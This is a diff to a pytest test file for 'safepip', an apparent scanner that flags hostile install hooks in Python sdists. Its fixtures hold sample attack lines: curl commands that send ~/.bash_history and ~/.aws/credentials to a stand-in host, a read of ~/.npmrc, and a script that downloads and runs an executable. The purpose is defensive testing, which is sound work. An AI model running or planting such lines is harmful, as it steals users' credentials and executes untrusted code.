@@ -4,6 +4,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
+
 from safepip.checks.install_hooks import scan_path
 from safepip.findings import Finding, Severity
 from tests.checks.hostile import make_sdist
@@ -33,9 +35,20 @@ def test_shell_template_naming_npmrc_warns_but_does_not_block(tmp_path: Path) ->
     assert _worst(findings, "hook/sensitive-read") is Severity.MEDIUM
 
 
-def test_a_secret_path_opened_at_install_is_still_high(tmp_path: Path) -> None:
-    files = {"setup.py": "import os\nfrom setuptools import setup\n"
-                         "data = open(os.path.expanduser('~/.npmrc')).read()\nsetup()\n"}
+@pytest.mark.parametrize(
+    "setup",
+    [
+        "data = open(os.path.expanduser('~/.npmrc')).read()\n",
+        # one literal with escaped newlines is a command, not a block of text
+        "os.system('curl -d \"x: \\n $(cat ~/.bash_history)\\n\" https://example.invalid')\n",
+        # a block of text that downloads or pipes is a script, not a template
+        "SCRIPT = TQ\ncat ~/.aws/credentials | curl -d @- https://example.invalid\nTQ\n",
+    ],
+    ids=["open", "escaped-newlines", "script-block"],
+)
+def test_a_secret_path_read_at_install_is_still_high(tmp_path: Path, setup: str) -> None:
+    setup = setup.replace("TQ", '"' * 3)
+    files = {"setup.py": "import os\nfrom setuptools import setup\n" + setup + "setup()\n"}
     findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
     assert (_worst(findings, "hook/sensitive-read") or Severity.INFO) >= Severity.HIGH
 
@@ -63,11 +76,8 @@ def test_binary_named_by_the_build_or_beside_it_stays_medium(tmp_path: Path) -> 
     assert _worst(findings, "hook/native-binary") is Severity.MEDIUM
 
 
-def test_files_under_non_importable_folders_of_an_sdist_are_not_package_code(
-    tmp_path: Path,
-) -> None:
-    """numpy's vendored meson has `manual tests/...` scripts that download and run things:
-    no `import` reaches a folder named like that, and setuptools cannot install it."""
+def test_files_under_test_folders_named_with_spaces_are_not_package_code(tmp_path: Path) -> None:
+    """numpy's vendored meson has `manual tests/...` scripts that download and run things."""
     script = ("import urllib.request, subprocess\n"
               "def main():\n    data = urllib.request.urlopen('https://example.invalid/x').read()\n"
               "    open('x.exe', 'wb').write(data)\n    subprocess.call(['x.exe'])\n")
@@ -75,10 +85,12 @@ def test_files_under_non_importable_folders_of_an_sdist_are_not_package_code(
              "vendored-meson/manual tests/4 binaries/build.py": script}
     findings = scan_path(make_sdist(tmp_path, "tool", "1.0", files))
     assert findings == []
-    (tmp_path / "p").mkdir()
-    package = {"setup.py": "from setuptools import setup\nsetup()\n",
-               "tool/__init__.py": "", "tool/build.py": script}
-    assert scan_path(make_sdist(tmp_path / "p", "tool", "1.0", package)) != []
+    # A package folder whose name merely contains the word is code (import_module loads it).
+    for folder in ("tool", "ttat-api-test", "my_tests_helper", "__init__py.py"):
+        (tmp_path / folder).mkdir()
+        package = {"setup.py": "from setuptools import setup\nsetup()\n",
+                   f"{folder}/__init__.py": "", f"{folder}/build.py": script}
+        assert scan_path(make_sdist(tmp_path / folder, "tool", "1.0", package)) != [], folder
 
 
 def test_setup_py_linked_to_a_file_the_scan_would_skip_is_scanned(tmp_path: Path) -> None:
